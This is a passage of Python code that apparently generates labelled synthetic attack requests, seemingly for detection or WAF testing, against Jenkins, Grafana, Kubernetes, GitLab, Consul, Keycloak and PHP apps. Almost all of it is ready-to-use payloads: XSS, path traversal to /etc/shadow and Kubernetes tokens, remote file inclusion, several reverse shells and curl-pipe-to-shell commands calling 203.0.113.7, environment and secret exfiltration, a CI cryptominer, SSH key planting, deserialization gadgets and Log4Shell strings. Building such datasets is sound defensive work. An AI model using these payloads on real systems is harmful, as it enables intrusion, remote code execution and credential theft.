          "/realms/platform/login-actions/authenticate?session_code=%s&execution=%s&client_id=grafana&tab_id=%s" % (alnum(43), fake_uuid(), alnum(11)),
          H["keycloak"], nav("https://%s/realms/platform/protocol/openid-connect/auth" % H["keycloak"]),
          form([("username", "\"><svg/onload=alert(document.cookie)>"), ("password", "x"), ("credentialId", "")]),
          "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    c.add("harbor-label-mxss", X, "POST", "/api/v2.0/labels", H["harbor"], xhr(H["harbor"], "/harbor/projects/3/labels", "sid=" + hexs(32)),
          js({"name": "prod", "color": "#C92100", "scope": "p", "project_id": 3,
              "description": "<math><mtext><table><mglyph><style><img src=x onerror=alert(document.domain)>"}), "application/json")
    c.add("consul-service-meta-tab-js", X, "PUT", "/v1/agent/service/register", H["consul"], [["X-Consul-Token", fake_uuid()]],
          js({"Name": "billing", "Port": 8080, "Meta": {"docs": "<a href=\"jav&#x09;ascript:alert(document.domain)\">docs</a>"}}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("k8s-dashboard-annotation-script", X, "PATCH", "/api/v1/namespaces/payments/configmaps/banner", H["k8s"], [k8s_hdr()],
          js({"metadata": {"annotations": {"description": "<script src=//203.0.113.7/x.js></script>"}}}),
          "application/merge-patch+json", ua=UA_TOOLS["kubectl"])
    body = '{"description":"\\u003cscript\\u003ealert(document.domain)\\u003c/script\\u003e","website":"https://example.org"}'
    c.add("gitea-repo-desc-unicode-escape", X, "PATCH", "/api/v1/repos/platform/infra", H["gitea"], [["Authorization", "token " + hexs(40)]],
          body, "application/json", ua=UA_TOOLS["go"])
    c.add("gitea-lang-cookie", X, "GET", "/explore/repos", H["gitea"],
          nav(None, "lang=\"><script>alert(document.domain)</script>; i_like_gitea=" + hexs(16)), accept=HTML_ACCEPT)
    body, ct = multipart([("file", "\x89PNG\r\n", "\"><img src=x onerror=alert(document.domain)>.png", "image/png")])
    c.add("node-upload-filename-xss", X, "POST", "/api/admin/avatars", H["node"], [bearer()], body, ct)
    c.add("go-search-double-encoded", X, "GET", "/v1/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", H["go"], [], ua=ua_browser())
    c.add("gitea-wiki-body-onpageshow", X, "POST", "/platform/infra/wiki/?action=_new", H["gitea"],
          nav("https://%s/platform/infra/wiki" % H["gitea"], "i_like_gitea=" + hexs(16) + "; _csrf=" + alnum(28)),
          form([("_csrf", alnum(28)), ("title", "Home"), ("content", "<body onpageshow=alert(document.domain)>"), ("message", "")]),
          "application/x-www-form-urlencoded", accept=HTML_ACCEPT)


def atk_lfi(c):
    g = H["grafana"]
    L = "lfi"
    for plugin, path in [
        ("alertlist", "../../../../../../../../etc/passwd"),
        ("annolist", "../../../../../../../../../etc/grafana/grafana.ini"),
        ("barchart", "..%2f..%2f..%2f..%2f..%2f..%2f..%2fvar/lib/grafana/grafana.db"),
        ("dashlist", "#/../../../../../../../../proc/self/environ"),
        ("gauge", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("loki", "..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fshadow"),
        ("prometheus", "../../../../../../../../../../proc/self/cmdline"),
        ("text", "..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
        ("welcome", "../../../../../../../../home/grafana/.bash_history"),
    ]:
        c.add("grafana-plugin-traversal-" + plugin, L, "GET", "/public/plugins/%s/%s" % (plugin, path), g, [],
              ua=RNG.choice([UA_TOOLS["curl"], UA_TOOLS["python"], ua_browser()]), accept="*/*")
    c.add("kibana-console-api-server", L, "GET",
          "/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=../../../../../../../../../../../etc/passwd",
          H["kibana"], [["kbn-xsrf", "true"]], ua=UA_TOOLS["python"])
    c.add("spring-cloud-config-5410", L, "GET", "/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23/foo/development",
          "config.platform.example.com", [], ua=UA_TOOLS["curl"])
    c.add("spring-cloud-config-3799", L, "GET", "/app/default/master/..%252f..%252f..%252f..%252fetc%252fpasswd",
          "config.platform.example.com", [], ua=UA_TOOLS["curl7"])
    c.add("argocd-helm-valuefiles", L, "POST", "/api/v1/applications", H["argocd"], xhr(H["argocd"], "/applications", argocd_cookie()),
          js({"metadata": {"name": "leak", "namespace": "argocd"},
              "spec": {"project": "default", "destination": {"server": "https://kubernetes.default.svc", "namespace": "default"},
                       "source": {"repoURL": "https://gitlab.example.com/team/chart.git", "path": "chart", "targetRevision": "HEAD",
                                  "helm": {"valueFiles": ["../../../../../../../../../../../../app/config/tls/tls.key",
                                                          "../../../../../../../../../../../etc/passwd"]}}}}),
          "application/json")
    c.add("kubelet-logs-via-apiserver", L, "GET", "/api/v1/nodes/node-17/proxy/logs/../../etc/shadow", H["k8s"], [k8s_hdr()],
          ua=UA_TOOLS["kubectl"])
    c.add("node-download-dotdot-slash", L, "GET", "/api/download?file=....//....//....//....//etc/passwd", H["node"], [bearer()],
          ua=UA_TOOLS["python"])
    c.add("node-static-dotenv", L, "GET", "/static/..%2f..%2f..%2fapp%2f.env", H["node"], [], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("go-files-admin-conf", L, "GET", "/files/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/kubernetes/admin.conf", H["go"], [],
          ua=UA_TOOLS["go"], accept="*/*")
    c.add("go-template-null-byte", L, "GET", "/v1/render?template=../../../../etc/passwd%00.yaml", H["go"], [bearer()], ua=UA_TOOLS["curl"])
    c.add("jenkins-usercontent-overlong", L, "GET", "/userContent/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/secrets/master.key",
          H["jenkins"], [], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("jenkins-plugin-accept-language", L, "GET", "/plugin/credentials/.ini", H["jenkins"],
          [["Accept-Language", "../../../../../../../../../../windows/win.ini"]], ua=UA_TOOLS["python"], accept="*/*")
    body, ct = multipart([("chart", "H4sIAAAAAAAAA+3OMQ6CQBCF4a3nFHsCMrMzu55mLyBGE+P9xUIr7GyM+b/mFe9vXt2u9bWqnXHrWiTe7nN+DbHDr4k3+TA5o2K2VNszTqM7+dHrc3zqWd6bRfj0/9v3cdBdFZWzvr8AYX0R", "../../../../../../etc/cron.d/backup.tgz", "application/gzip")])
    c.add("harbor-chart-upload-zipslip", L, "POST", "/api/chartrepo/library/charts", H["harbor"],
          [["Authorization", "Basic " + b64("admin:" + alnum(12))]], body, ct, ua=UA_TOOLS["helm"])
    frames = ""
    for arg in ["connect-node", "@/var/jenkins_home/secrets/initialAdminPassword"]:
        data = chr(0) + chr(len(arg)) + arg
        frames += "\x00\x00\x00" + chr(len(data)) + "\x00" + data
    frames += "\x00\x00\x00\x00\x03"
    c.add("jenkins-cli-at-file-arg", L, "POST", "/cli?remoting=false", H["jenkins"],
          [["Session", fake_uuid()], ["Side", "upload"]], frames, "application/octet-stream", ua=UA_TOOLS["java"])
    c.add("grafana-sql-expression-read-csv", L, "POST", "/api/ds/query?ds_type=__expr__&expression=true&requestId=Q101", g,
          grafana_hdrs("/explore"),
          js({"queries": [{"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__", "name": "Expression"},
                           "type": "sql", "expression": "SELECT content FROM read_blob('/etc/passwd')", "window": ""}],
              "from": str((EPOCH - 3600) * 1000), "to": str(EPOCH * 1000)}), "application/json")
    c.add("go-proc-self-cwd", L, "GET", "/v1/config/preview?path=/proc/self/cwd/config/secrets.yaml", H["go"], [bearer()], ua=UA_TOOLS["curl"])
    c.add("argowf-artifact-traversal", L, "GET", "/artifact-files/argo/workflows/etl-x7k2q/etl-x7k2q-1234/outputs/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
          H["argowf"], xhr(H["argowf"], "/workflows/argo/etl-x7k2q"))
    c.add("node-json-logfile-absolute", L, "POST", "/api/admin/logs/tail", H["node"], [bearer()],
          js({"logFile": "/var/log/../../etc/shadow", "lines": 200}), "application/json", ua=UA_TOOLS["node"])


def atk_rfi(c):
    R = "rfi"
    pma = H["pma"]
    c.add("php-status-include-http", R, "GET", "/status/index.php?include=http://203.0.113.7/r57.txt??", pma, [], ua=UA_TOOLS["python"])
    c.add("php-page-https-encoded", R, "GET", "/index.php?page=https:%2f%2f203.0.113.7%2fshell.txt%3f", pma, [], ua=ua_browser())
    c.add("php-template-ftp", R, "GET", "/tools/view.php?template=ftp://anonymous@203.0.113.7/pub/x.php", pma, [], ua=UA_TOOLS["curl"])
    c.add("php-lang-unc-share", R, "GET", "/tools/index.php?lang=%5C%5C203.0.113.7%5Cshare%5Cevil.php", pma, [], ua=UA_TOOLS["python"])
    c.add("php-file-hash-terminated", R, "GET", "/phpmyadmin/themes.php?file=http://203.0.113.7/shell.txt%23", pma, [], ua=UA_TOOLS["curl7"])
    c.add("php-form-include-path", R, "POST", "/setup/index.php", pma, [],
          form([("include_path", "http://203.0.113.7/inc/"), ("page", "config"), ("lang", "en")]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("go-reload-remote-config", R, "POST", "/admin/reload?config=http://203.0.113.7/config.yaml", H["go"], [], "",
          "application/x-www-form-urlencoded", ua=UA_TOOLS["curl"])
    c.add("node-plugin-loader-remote-js", R, "POST", "/api/admin/plugins", H["node"], [bearer()],
          js({"name": "metrics-export", "source": "https://203.0.113.7/payload/index.js", "enabled": True}), "application/json")
    c.add("jenkins-groovy-evaluate-url", R, "POST", "/scriptText", H["jenkins"], jenkins_hdrs("/script"),
          form([("script", 'evaluate(new URL("http://203.0.113.7/stage2.groovy").text)')]), "application/x-www-form-urlencoded")
    c.add("php-cookie-theme-include", R, "GET", "/phpldapadmin/index.php", pma,
          [["Cookie", "PLA_theme=http://203.0.113.7/t.txt?; PHPSESSID=" + alnum(26).lower()]], ua=ua_browser())


def wf_submit(params, template="build-and-push"):
    return js({"namespace": "argo", "resourceKind": "WorkflowTemplate", "resourceName": template,
               "submitOptions": {"generateName": template + "-", "parameters": params, "labels": "submitted-from-ui=true"}})


def pod_spec(name, command, privileged=False, host_mount=False):
    spec = {"containers": [{"name": name, "image": "alpine:3.19", "command": command}], "restartPolicy": "Never"}
    if privileged:
        spec["hostPID"] = True
        spec["hostNetwork"] = True
        spec["containers"][0]["securityContext"] = {"privileged": True}
    if host_mount:
        spec["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
        spec["containers"][0]["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
    return spec


def atk_rce(c):
    X = "rce"
    jk = H["jenkins"]
    for slug, path, script in [
        ("jenkins-script-execute-text", "/script", 'println "id".execute().text'),
        ("jenkins-scripttext-curl-bash", "/scriptText",
         "def p = ['bash','-c','curl -s http://203.0.113.7/x | bash'].execute(); p.waitFor(); println p.text"),
        ("jenkins-script-runtime-b64", "/manage/script",
         "Runtime.getRuntime().exec(['bash','-c','{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}'] as String[])"),
        ("jenkins-script-processbuilder", "/script",
         'println new ProcessBuilder("sh","-c","cat /var/jenkins_home/credentials.xml /var/jenkins_home/secrets/hudson.util.Secret | base64").redirectErrorStream(true).start().text'),
        ("jenkins-agent-script-powershell", "/computer/win-agent-01/script",
         '"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAnACkA".execute()'),
    ]:
        hdrs = jenkins_hdrs("/script") if path != "/scriptText" else [["Authorization", "Basic " + b64("admin:11" + hexs(32))]]
        c.add(slug, X, "POST", path, jk, hdrs, form([("script", script), ("Jenkins-Crumb", hexs(64)), ("Submit", "Run")]),
              "application/x-www-form-urlencoded", ua=None if path != "/scriptText" else UA_TOOLS["curl"])
    c.add("jenkins-config-xml-shell-revshell", X, "POST", "/job/nightly-backup/config.xml", jk,
          [["Authorization", "Basic " + b64("deployer:11" + hexs(32))]],
          "<?xml version='1.1' encoding='UTF-8'?>\n<project>\n  <builders>\n    <hudson.tasks.Shell>\n"
          "      <command>bash -c 'bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1'</command>\n"
          "    </hudson.tasks.Shell>\n  </builders>\n  <triggers><hudson.triggers.TimerTrigger><spec>* * * * *</spec></hudson.triggers.TimerTrigger></triggers>\n</project>\n",
          "application/xml", ua=UA_TOOLS["curl"])
    aw = H["argowf"]
    c.add("argowf-param-semicolon", X, "POST", "/api/v1/workflows/argo/submit", aw, xhr(aw, "/workflow-templates/argo/build-and-push"),
          wf_submit(["branch=main; curl -s http://203.0.113.7/x.sh | sh", "image=registry.example.com/api"]), "application/json")
    c.add("argowf-param-subshell", X, "POST", "/api/v1/workflows/argo/submit", aw, [bearer()],
          wf_submit(["repo=https://gitlab.example.com/a.git$(wget -qO- 203.0.113.7/m|sh)"], "clone-and-test"), "application/json",
          ua=UA_TOOLS["curl"])
    c.add("argowf-param-backtick", X, "POST", "/api/v1/workflows/argo/submit", aw, [bearer()],
          wf_submit(["tag=v1.2.3`cat /var/run/secrets/kubernetes.io/serviceaccount/token|nc 203.0.113.7 9001`"]), "application/json",
          ua=UA_TOOLS["python"])
    c.add("argowf-hostpath-chroot", X, "POST", "/api/v1/workflows/argo", aw, [bearer()],
          js({"workflow": {"metadata": {"generateName": "cleanup-"}, "spec": {"entrypoint": "main", "templates": [{
              "name": "main", "container": {"image": "alpine:3.19",
                                            "command": ["chroot", "/host", "sh", "-c",
                                                        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGxW attacker' >> /root/.ssh/authorized_keys"],
                                            "volumeMounts": [{"name": "h", "mountPath": "/host"}],
                                            "securityContext": {"privileged": True}}}],
              "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}}), "application/json", ua=UA_TOOLS["go"])
    c.add("argowf-script-revshell", X, "POST", "/api/v1/workflows/argo/lint", aw, xhr(aw, "/workflows/argo"),
          js({"workflow": {"metadata": {"generateName": "debug-"}, "spec": {"entrypoint": "s", "templates": [{
              "name": "s", "script": {"image": "bash:5", "command": ["bash"],
                                      "source": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}}]}}}), "application/json")
    gl = H["gitlab"]
    c.add("gitlab-ci-commit-miner", X, "POST", "/api/v4/projects/42/repository/commits", gl, [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"branch": "main", "commit_message": "ci: speed up cache", "actions": [{"action": "update", "file_path": ".gitlab-ci.yml",
              "content": "build:\n  script:\n    - curl -sSfL http://203.0.113.7/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x -o pool.example.net:3333 -u 4A" + alnum(20) + " --background\n"}]}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("gitlab-ci-lint-env-exfil", X, "POST", "/api/v4/projects/42/ci/lint", gl, [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"content": "test:\n  script:\n    - env | base64 -w0 | curl -s -X POST -d @- http://203.0.113.7/e\n", "dry_run": True}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("gitea-git-hook-pre-receive", X, "POST", "/platform/infra/settings/hooks/git/pre-receive", H["gitea"],
          nav("https://%s/platform/infra/settings/hooks/git/pre-receive" % H["gitea"], "i_like_gitea=%s; _csrf=%s" % (hexs(16), alnum(28))),
          form([("_csrf", alnum(28)), ("content", "#!/bin/bash\nbash -c 'exec bash -i &>/dev/tcp/203.0.113.7/9001 <&1'\n")]),
          "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    c.add("ci-relay-webhook-branch-ifs", X, "POST", "/hooks/gitlab", "ci-relay.platform.example.com",
          [["X-Gitlab-Event", "Push Hook"], ["X-Gitlab-Token", alnum(24)], ["X-Gitlab-Instance", "https://gitlab.example.com"]],
          js({"object_kind": "push", "ref": "refs/heads/main$(curl${IFS}203.0.113.7/x|sh)", "checkout_sha": hexs(40),
              "project": {"path_with_namespace": "platform/api"}, "commits": []}), "application/json", ua=UA_TOOLS["gitlab"])
    nd = H["node"]
    c.add("node-diag-ping-semicolon", X, "POST", "/api/admin/diagnostics/ping", nd, [bearer()],
          js({"host": "10.0.0.1;id", "count": 3}), "application/json", ua=UA_TOOLS["node"])
    c.add("node-diag-pipe-form", X, "POST", "/api/admin/diagnostics/nslookup", nd, [bearer()],
          form([("host", "127.0.0.1|cat /etc/passwd")]), "application/x-www-form-urlencoded")
    c.add("node-diag-ifs", X, "GET", "/api/admin/diagnostics/dig?host=example.com;cat${IFS}/etc/passwd", nd, [bearer()], ua=UA_TOOLS["curl"])
    c.add("node-diag-newline", X, "GET", "/api/admin/diagnostics/ping?host=example.com%0aid%0a", nd, [bearer()], ua=UA_TOOLS["python"])
    c.add("go-traceroute-and-wget", X, "GET",
          "/v1/net/traceroute?target=example.com%26%26wget%20http%3A%2F%2F203.0.113.7%2Fb%20-O%20%2Ftmp%2Fb%26%26chmod%20%2Bx%20%2Ftmp%2Fb%26%26%2Ftmp%2Fb",
          H["go"], [bearer()], ua=UA_TOOLS["go"])
    c.add("node-eval-rule-child-process", X, "POST", "/api/admin/rules/evaluate", nd, [bearer()],
          js({"expr": "require('child_process').execSync('cat /proc/self/environ').toString()", "context": {}}), "application/json")
    c.add("node-hook-python-pty", X, "PUT", "/api/admin/jobs/cleanup", nd, [bearer()],
          js({"schedule": "*/5 * * * *", "postInstall": "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"}),
          "application/json")
    k = H["k8s"]
    c.add("k8s-pod-exec-kube-proxy", X, "POST",
          "/api/v1/namespaces/kube-system/pods/kube-proxy-x7k2p/exec?command=sh&command=-c&command=cat+%2Fvar%2Flib%2Fkube-proxy%2Fkubeconfig.conf&stdout=true&stderr=true",
          k, [k8s_hdr(), ["X-Stream-Protocol-Version", "v4.channel.k8s.io"], ["Connection", "Upgrade"], ["Upgrade", "SPDY/3.1"]],
          ua=UA_TOOLS["kubectl"])
    c.add("kubelet-run-etcd-key", X, "POST", "/run/kube-system/etcd-node-17/etcd", H["kubelet"], [],
          form([("cmd", "cat /etc/kubernetes/pki/etcd/server.key")]), "application/x-www-form-urlencoded", ua=UA_TOOLS["curl"])
    c.add("kubelet-exec-get", X, "GET", "/exec/default/nginx-6d4cf56db6-x2kq8/nginx?command=sh&command=-c&command=id&input=1&output=1&tty=1",
          H["kubelet"], [["X-Stream-Protocol-Version", "v4.channel.k8s.io"]], ua=UA_TOOLS["python"])
    c.add("k8s-privileged-nsenter-pod", X, "POST", "/api/v1/namespaces/default/pods", H["dash"],
          xhr(H["dash"], "/#/create?namespace=default", None, [["X-CSRF-TOKEN", b64u(alnum(30))]]),
          js({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "node-debug"},
              "spec": pod_spec("d", ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--",
                                     "bash", "-c", "curl -s http://203.0.113.7/k | bash"], privileged=True)}), "application/json")
    c.add("consul-service-check-args", X, "PUT", "/v1/agent/service/register?replace-existing-checks=true", H["consul"], [],
          js({"ID": "diag", "Name": "diag", "Address": "127.0.0.1", "Port": 80,
              "Check": {"Args": ["/bin/sh", "-c", "curl -s http://203.0.113.7/c.sh | sh"], "Interval": "10s", "Timeout": "86400s"}}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("consul-check-script-legacy", X, "PUT", "/v1/agent/check/register", H["consul"], [["X-Consul-Token", fake_uuid()]],
          js({"ID": "mem", "Name": "mem", "Script": "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/9001 0>&1'", "Interval": "30s"}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("kibana-timelion-proto-rce", X, "POST", "/api/timelion/run", H["kibana"], kibana_hdrs("/app/timelion"),
          js({"sheet": [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i >& /dev/tcp/203.0.113.7/6666 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"],
              "time": {"from": "now-15m", "to": "now", "interval": "auto", "timezone": "UTC"}}), "application/json")
    c.add("ingress-admission-auth-url", X, "POST", "/networking/v1/ingresses?timeout=10s",
          "ingress-nginx-controller-admission.ingress-nginx.svc:443",
          [], js({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": {
              "uid": fake_uuid(), "kind": {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"},
              "resource": {"group": "networking.k8s.io", "version": "v1", "resource": "ingresses"}, "operation": "CREATE",
              "object": {"metadata": {"name": "x", "namespace": "default", "annotations": {
                  "nginx.ingress.kubernetes.io/auth-url": "http://example.com/#;}}}\n\nssl_engine /proc/1/fd/33;\n\n"}},
                  "spec": {"ingressClassName": "nginx", "rules": [{"host": "x.example.com"}]}}}}),
          "application/json", ua=UA_TOOLS["go"])
    c.add("ingress-configuration-snippet-lua", X, "POST", "/apis/networking.k8s.io/v1/namespaces/team-a/ingresses", k,
          [k8s_hdr()], js({"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "t", "annotations": {
              "nginx.ingress.kubernetes.io/server-snippet": "location /x { content_by_lua_block { ngx.say(io.popen(\"cat /var/run/secrets/kubernetes.io/serviceaccount/token\"):read(\"*a\")) } }"}},
              "spec": {"rules": [{"host": "t.apps.example.com"}]}}), "application/json", ua=UA_TOOLS["kubectl"])
    c.add("istio-envoyfilter-lua-popen", X, "POST", "/apis/networking.istio.io/v1alpha3/namespaces/istio-system/envoyfilters", k,
          [k8s_hdr()], "apiVersion: networking.istio.io/v1alpha3\nkind: EnvoyFilter\nmetadata:\n  name: x\nspec:\n  configPatches:\n  - applyTo: HTTP_FILTER\n    patch:\n      operation: INSERT_BEFORE\n      value:\n        name: envoy.lua\n        typed_config:\n          '@type': type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua\n          inlineCode: |\n            function envoy_on_request(h) local f = io.popen(h:headers():get('x-c')) h:respond({[':status']='200'}, f:read('*a')) end\n",
          "application/yaml", ua=UA_TOOLS["kubectl"])
    c.add("grafana-sql-expression-shellfs", X, "POST", "/api/ds/query?ds_type=__expr__&expression=true&requestId=Q102", H["grafana"],
          grafana_hdrs("/explore"),
          js({"queries": [{"refId": "B", "datasource": {"type": "__expr__", "uid": "__expr__"}, "type": "sql",
                           "expression": "SELECT 1;install shellfs from community;LOAD shellfs;SELECT * FROM read_csv('curl -s http://203.0.113.7/x|sh >/tmp/grafana_out 2>&1 |')"}],
              "from": str((EPOCH - 3600) * 1000), "to": str(EPOCH * 1000)}), "application/json")
    body, ct = multipart([("name", "alert-routing", None, None),
                          ("config", "receivers:\n  - name: default\nextra: !!python/object/apply:os.system [\"curl -s http://203.0.113.7/y | sh\"]\n",
                           "routing.yaml", "application/x-yaml")])
    c.add("pyyaml-config-upload", X, "POST", "/api/v1/configs/upload", H["notify"], [bearer()], body, ct)
    c.add("ruby-yaml-gem-installer", X, "POST", "/api/v4/projects/42/repository/files/config%2Fsettings.yml", H["gitlab"],
          [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"branch": "main", "commit_message": "settings", "content":
              "---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n             git_set: \"curl 203.0.113.7/r | sh\"\n         method_id: :resolve\n"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("notify-cmd-after-perl-revshell", X, "POST", "/api/v1/notify/test", H["notify"], [bearer()],
          form([("target", "ops@example.com"), ("cmd_after", "perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'")]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])


def atk_php(c):
    P = "php"
    pma = H["pma"]
    c.add("phpmyadmin-target-double-enc", P, "GET", "/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd", pma,
          nav(None, "phpMyAdmin=" + alnum(26).lower() + "; pma_lang=en"), accept=HTML_ACCEPT)
    c.add("php-filter-base64-config", P, "GET", "/tools/index.php?page=php://filter/convert.base64-encode/resource=../config.inc.php", pma, [],
          ua=UA_TOOLS["curl"])
    c.add("php-filter-chain-iconv", P, "GET",
          "/tools/index.php?page=php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.CP1162.UTF32|convert.base64-decode/resource=php://temp",
          pma, [], ua=UA_TOOLS["python"])
    c.add("php-data-wrapper", P, "GET", "/tools/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==&c=id", pma, [],
          ua=UA_TOOLS["curl"])
    c.add("php-cgi-soft-hyphen", P, "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input", pma, [],
          "<?php echo shell_exec('whoami'); ?>", "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("phpunit-eval-stdin", P, "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", H["node"], [],
          "<?php echo md5('phpunit'); system('id'); ?>", "text/plain", ua=UA_TOOLS["go"])
    c.add("php-object-injection-cookie", P, "GET", "/phpldapadmin/cmd.php?cmd=query_engine", pma,
          [["Cookie", "PLA_state=" + q('O:8:"stdClass":1:{s:4:"file";O:25:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}}')]],
          ua=ua_browser())
    body, ct = multipart([("import_type", "server", None, None), ("format", "sql", None, None),
                          ("import_file", "<?php @eval($_POST['x']); ?>", "dump.php", "application/x-php")])
    c.add("phpmyadmin-import-webshell", P, "POST", "/import.php", pma, nav("https://%s/index.php" % pma, "phpMyAdmin=" + alnum(26).lower()),
          body, ct, accept=HTML_ACCEPT)
    c.add("php-expect-wrapper", P, "GET", "/tools/index.php?page=expect://id", pma, [], ua=UA_TOOLS["curl7"])
    c.add("php-phar-deserialize", P, "GET", "/tools/thumb.php?src=phar://./uploads/avatars/a1b2.jpg/test.txt", pma, [], ua=UA_TOOLS["python"])
    c.add("adminer-rogue-mysql", P, "GET", "/adminer.php?server=203.0.113.7%3A3306&username=root&db=mysql&sql=LOAD%20DATA%20LOCAL%20INFILE%20%27%2Fetc%2Fpasswd%27",
          pma, nav(None, "adminer_sid=" + alnum(26).lower()), accept=HTML_ACCEPT)


def java_ser_b64(gadget_classes, cmd):
    out = b"\xac\xed\x00\x05sr\x00" + bytes([len(gadget_classes[0])]) + gadget_classes[0].encode()
    for cls in gadget_classes[1:]:
        out += b"\x00\x00\x00\x00\x00\x00\x00\x01\x02\x00\x00xpsr\x00" + bytes([len(cls)]) + cls.encode()
    out += b"t\x00" + bytes([len(cmd)]) + cmd.encode() + b"x"
    return b64(out)


def atk_java(c):
    J = "java"
    kc = H["keycloak"]
    c.add("log4shell-keycloak-ua", J, "GET", "/realms/platform/account/", kc, nav(),
          ua="${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/aWQ=}", accept=HTML_ACCEPT)
    c.add("log4shell-jenkins-x-api-version", J, "GET", "/login?from=%2F", H["jenkins"],
          [["X-Api-Version", "${jndi:ldap://203.0.113.7/a}"]], ua=UA_TOOLS["curl"], accept=HTML_ACCEPT)
    c.add("log4shell-es-document-rmi", J, "POST", "/logs-app/_doc?refresh=false", H["es"],
          [["Authorization", "ApiKey " + b64(alnum(20) + ":" + alnum(22))]],
          js({"@timestamp": iso(EPOCH), "message": "${jndi:rmi://203.0.113.7:1099/Exploit}", "level": "INFO"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("log4shell-keycloak-username-lower", J, "POST",
          "/realms/master/login-actions/authenticate?session_code=%s&execution=%s&client_id=security-admin-console&tab_id=%s" % (alnum(43), fake_uuid(), alnum(11)),
          kc, nav("https://%s/admin/master/console/" % kc),
          form([("username", "${${lower:j}ndi:${lower:l}dap://203.0.113.7/x}"), ("password", "admin"), ("credentialId", "")]),
          "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    c.add("log4shell-referer-colon-dash", J, "GET", "/admin/master/console/", kc,
          [["Referer", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.7/a}"]], accept=HTML_ACCEPT)
    c.add("log4shell-xff-dns", J, "GET", "/api/json", H["jenkins"], [["X-Forwarded-For", "${jndi:dns://203.0.113.7/xff}"]], ua=UA_TOOLS["python"])
    c.add("log4shell-cookie-env-exfil", J, "GET", "/_cat/indices?v", H["es"],
          [["Cookie", "JSESSIONID=${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example.net/a}"]], ua=UA_TOOLS["curl"])
